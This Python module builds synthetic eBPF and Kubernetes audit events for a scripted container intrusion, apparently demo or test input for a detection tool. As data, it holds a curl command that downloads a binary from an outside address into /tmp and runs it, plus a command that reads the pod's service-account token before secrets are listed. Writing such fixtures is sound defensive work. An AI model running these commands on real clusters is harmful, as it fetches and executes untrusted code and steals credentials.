"""The scripted attack `cadr demo` injects, as the sensors would publish it.

alice runs ``kubectl exec -it`` into payments-7d9f, starts a shell, downloads a binary with
curl, runs it from /tmp, reads the service-account token, and the payments service account
then lists secrets through the API from the pod's IP. Two layers (eBPF + audit), one story.
"""

from __future__ import annotations

import hashlib
import time

from schemas.records import (
    Audit,
    Event,
    EventKind,
    File,
    Network,
    Process,
    Source,
    Workload,
)

__all__ = ["attack_events"]


def _exec_id(node: str, pid: int, start: int) -> str:
    # the eBPF sensor's exec_id is node + host pid + start time; host pids differ between pods
    return hashlib.blake2b(f"{node}:{pid}:{start}".encode(), digest_size=12).hexdigest()


def attack_events(
    *,
    start_ns: int | None = None,
    cluster: str = "local",
    node: str = "node-1",
    namespace: str = "payments",
    pod: str = "payments-7d9f-abc12",
    pod_ip: str = "10.42.0.17",
    tag: str = "demo",
) -> list[Event]:
    """The attack sequence, in time order (events one second apart)."""
    t0 = start_ns if start_ns is not None else time.time_ns()
    sec = 1_000_000_000
    wl = Workload(
        cluster=cluster,
        namespace=namespace,
        pod=pod,
        container="api",
        container_id=hashlib.sha256(f"{pod}/api".encode()).hexdigest(),
        workload_kind="Deployment",
        workload_name=namespace,
        image="registry.example.com/payments/api:1.8.2",
        service_account=f"{namespace}-api",
        pod_ip=pod_ip,
    )
    base_pid = 4000 + int(hashlib.blake2b(pod.encode(), digest_size=2).hexdigest(), 16) % 30000
    node_pid = lambda pid: base_pid + pid - 4000  # noqa: E731 - host pids of this pod
    runc = _exec_id(node, node_pid(4100), t0 - sec)
    shell = _exec_id(node, node_pid(4242), t0 + sec)
    curl = _exec_id(node, node_pid(4250), t0 + 2 * sec)
    payload = _exec_id(node, node_pid(4261), t0 + 4 * sec)
    cat = _exec_id(node, node_pid(4270), t0 + 5 * sec)
    n = 0

    def ev(kind: EventKind, at: int, **blocks: object) -> Event:
        nonlocal n
        n += 1
        source = Source.K8S_AUDIT if kind is EventKind.K8S_API else Source.EBPF
        return Event(
            event_id=f"{tag}-{t0}-{n:03d}",
            time=t0 + at,
            node=node,
            source=source,
            kind=kind,
            workload=Workload(**{f: getattr(wl, f) for f in wl.__struct_fields__}),
            **blocks,  # type: ignore[arg-type]
        )

    def proc(pid: int, exec_id: str, parent: str, exe: str, args: list[str], **kw: object) -> Process:
        return Process(
            pid=pid,
            ppid=4100,
            exec_id=exec_id,
            parent_exec_id=parent,
            exe=exe,
            args=args,
            comm=exe.rsplit("/", 1)[-1][:15],
            uid=0,
            euid=0,
            cwd="/app",
            **kw,  # type: ignore[arg-type]
        )

    exec_uri = f"/api/v1/namespaces/{namespace}/pods/{pod}/exec?command=bash&container=api&stdin=true&stdout=true&tty=true"
    events = [
        ev(
            EventKind.K8S_API,
            0,
            audit=Audit(
                audit_id=f"{tag}-{t0}-exec",
                verb="create",
                user="alice@example.com",
                groups=["system:authenticated", "dev"],
                resource="pods",
                subresource="exec",
                namespace=namespace,
                name=pod,
                request_uri=exec_uri,
                source_ips=["192.0.2.10"],
                user_agent="kubectl/v1.30.2 (linux/amd64)",
                response_code=101,
                decision="allow",
                request={"command": ["bash"], "container": "api", "tty": True},
            ),
        ),
        ev(
            EventKind.PROCESS_EXEC,
            sec,
            process=proc(4242, shell, runc, "/bin/bash", ["bash"], tty=True, parent_exe="/usr/bin/runc"),
        ),
        ev(
            EventKind.PROCESS_EXEC,
            2 * sec,
            process=proc(
                4250,
                curl,
                shell,
                "/usr/bin/curl",
                ["curl", "-so", "/tmp/kworker", "http://203.0.113.7/k"],
                parent_exe="/bin/bash",
            ),
        ),
        ev(
            EventKind.NET_CONNECT,
            2 * sec + 50_000_000,
            process=proc(4250, curl, shell, "/usr/bin/curl", []),
            network=Network(src_ip=pod_ip, src_port=40112, dst_ip="203.0.113.7", dst_port=80),
        ),
        ev(
            EventKind.FILE_OPEN,
            2 * sec + 90_000_000,
            process=proc(4250, curl, shell, "/usr/bin/curl", []),
            file=File(path="/tmp/kworker", flags=0o1101, write=True),
        ),
        ev(
            EventKind.PROCESS_EXEC,
            4 * sec,
            process=proc(
                4261, payload, shell, "/tmp/kworker", ["/tmp/kworker", "-B"], parent_exe="/bin/bash"
            ),
        ),
        ev(
            EventKind.PROCESS_EXEC,
            5 * sec,
            process=proc(
                4270,
                cat,
                shell,
                "/bin/cat",
                ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
                parent_exe="/bin/bash",
            ),
        ),
        ev(
            EventKind.FILE_OPEN,
            5 * sec + 10_000_000,
            process=proc(4270, cat, shell, "/bin/cat", []),
            file=File(path="/var/run/secrets/kubernetes.io/serviceaccount/token"),
        ),
        ev(
            EventKind.K8S_API,
            7 * sec,
            audit=Audit(
                audit_id=f"{tag}-{t0}-secrets",
                verb="list",
                user=f"system:serviceaccount:{namespace}:{namespace}-api",
                groups=[
                    "system:serviceaccounts",
                    f"system:serviceaccounts:{namespace}",
                    "system:authenticated",
                ],
                resource="secrets",
                namespace=namespace,
                request_uri=f"/api/v1/namespaces/{namespace}/secrets",
                source_ips=[pod_ip],
                user_agent="curl/8.5.0",
                response_code=200,
                decision="allow",
            ),
        ),
    ]
    for e in events:
        if e.kind is EventKind.K8S_API:
            # the API call's workload is the object it targets, not the pod that made it
            e.workload = Workload(
                cluster=cluster,
                namespace=namespace,
                pod=pod if e.audit and e.audit.resource == "pods" else "",
            )
    return events
